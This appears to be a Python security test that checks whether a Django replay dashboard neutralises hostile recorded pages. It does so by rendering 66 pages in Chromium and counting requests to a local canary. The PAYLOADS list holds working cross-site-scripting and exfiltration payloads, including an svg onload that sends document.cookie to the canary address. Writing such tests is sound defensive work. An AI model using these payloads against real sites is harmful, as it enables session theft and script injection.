"""S1: hostile recorded pages, opened in the replay by real Chromium."""

from __future__ import annotations

import dataclasses
import itertools
from collections.abc import Iterator

from django.conf import settings
from django.contrib.auth.models import User
from playwright.sync_api import BrowserContext, Dialog, Error, Page, sync_playwright

from drills.hostile.canary import Canary, canary
from drills.outcome import Outcome
from drills.web import ensure_web, open_session
from rollouts.artifacts import store_html
from rollouts.browser.process.chromium_path import find_chromium
from rollouts.models import Step
from tests.factories import StepFactory, TrajectoryFactory

# {u} is the address of the canary, {n} the number of the page.
PAYLOADS = (
    "<script>fetch('{u}')</script>",
    "<script src='{u}'></script>",
    "<img src='{u}'>",
    "<img src=x onerror=\"new Image().src='{u}'\">",
    "<svg onload=\"fetch('{u}?'+document.cookie)\"></svg>",
    "<iframe src='{u}'></iframe>",
    "<iframe srcdoc=\"<script>fetch('{u}')</script>\"></iframe>",
    "<iframe src=\"javascript:fetch('{u}')\"></iframe>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>",
    "<link rel=stylesheet href='{u}'>",
    "<link rel=preload as=image href='{u}'>",
    "<style>@import '{u}'; body {{ background: url('{u}') }}</style>",
    "<p style=\"background: url('{u}')\">styled</p>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href='{u}/'><img src=relative>",
    "<video autoplay src='{u}'></video>",
    "<form id=f action='{u}'></form><script>f.submit()</script>",
    "<script>top.location = '{u}'</script>",
    "<input autofocus onfocus=\"location = '{u}'\">",
    "<div><template shadowrootmode=open><img src='{u}'>"
    "<svg onload=\"fetch('{u}')\"></svg></template></div>",
    "<div><template shadowrootmode=closed><style>@import '{u}';</style>"
    "<p style=\"background: url('{u}')\">in a shadow</p></template></div>",
)
# Positions of a payload on the page: plain, in foreign markup, after broken markup.
WRAPPINGS = (
    "<!doctype html><html><body><h1>Page {n}</h1>{payload}</body></html>",
    "<svg><foreignObject><div>{payload}</div></foreignObject></svg><h1>Page {n}</h1>",
    "<h1>Page {n}</h1><table><p title='\"><!--'>{payload}<!--> {payload}",
)
SETTLE_MS = 250
# Number of pages that must do harm when opened unchanged.
MIN_HARMFUL = 45


@dataclasses.dataclass(slots=True)
class Seen:
    """What the browser did. `left` counts pages that navigated away."""

    loaded: int = 0
    left: int = 0
    dialogs: int = 0

    def note_dialog(self, dialog: Dialog) -> None:
        """Count a dialog, and close it."""
        self.dialogs += 1
        dialog.dismiss()


def measure() -> Outcome:
    """Open every page in the replay, then each unchanged, which must do harm."""
    url = ensure_web()
    with canary(body=b"") as server:
        pages = list(write_pages(server.port))
        addresses = [url + path for path in _record(pages)]
        session = open_session(User.objects.create_superuser("drill-replay"))
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=find_chromium())
            replayed = browser.new_context(base_url=url)
            name = settings.SESSION_COOKIE_NAME
            replayed.add_cookies([{"name": name, "value": session, "url": url}])
            seen = _open_all(replayed, addresses)
            hits = list(server.hits)
            harmful = _count_harmful(browser.new_context(), pages, server)
            browser.close()
    text = (
        f"{len(pages)} pages, {seen.loaded} shown in the replay: {len(hits)} requests, "
        f"{seen.left} navigations, {seen.dialogs} dialogs; opened as they are, "
        f"{harmful} of them reach the canary"
    )
    is_shown = seen.loaded >= len(pages) and harmful >= MIN_HARMFUL
    ok = is_shown and not (hits or seen.left or seen.dialogs)
    return Outcome(text, ok, "; ".join(hits[:3]))


def write_pages(port: int) -> Iterator[str]:
    """Yield every payload in every wrapping."""
    for number, (wrapping, payload) in enumerate(
        itertools.product(WRAPPINGS, PAYLOADS), start=1
    ):
        address = f"http://127.0.0.1:{port}/{number}"
        yield wrapping.format(n=number, payload=payload.format(u=address, n=number))


def _record(pages: list[str]) -> Iterator[str]:
    """Record an episode with one step for each page; yield the paths of its replay."""
    row = TrajectoryFactory(step_count=len(pages))
    Step.objects.filter(trajectory=row).delete()
    for index, html in enumerate(pages):
        digest = store_html(settings.ARTIFACTS_DIR, html)
        StepFactory(trajectory=row, attempt=row.attempt, index=index, snapshot=digest)
        yield f"/trajectories/{row.pk}/steps/{index + 1}/"


def _open_all(context: BrowserContext, addresses: list[str]) -> Seen:
    seen = Seen()
    page = context.new_page()
    page.on("dialog", lambda dialog: seen.note_dialog(dialog))
    for address in addresses:
        with page.expect_response(lambda answer: "/recorded/" in answer.url) as shown:
            page.goto(address)
        seen.loaded += shown.value.ok
        page.wait_for_timeout(SETTLE_MS)
        is_here = page.url.startswith(settings.DASHBOARD_URL)
        seen.left += not is_here or len(context.pages) > 1
    return seen


def _count_harmful(context: BrowserContext, pages: list[str], server: Canary) -> int:
    """Open each page unchanged; count those that reach the canary."""
    count = 0
    for html in pages:
        server.hits.clear()
        page = context.new_page()
        _show(page, html)
        count += bool(server.hits)
        page.close()
    return count


def _show(page: Page, html: str) -> None:
    try:
        page.set_content(html, wait_until="commit")
        page.wait_for_timeout(SETTLE_MS)
    except Error:
        # The page navigated away meanwhile.
        return
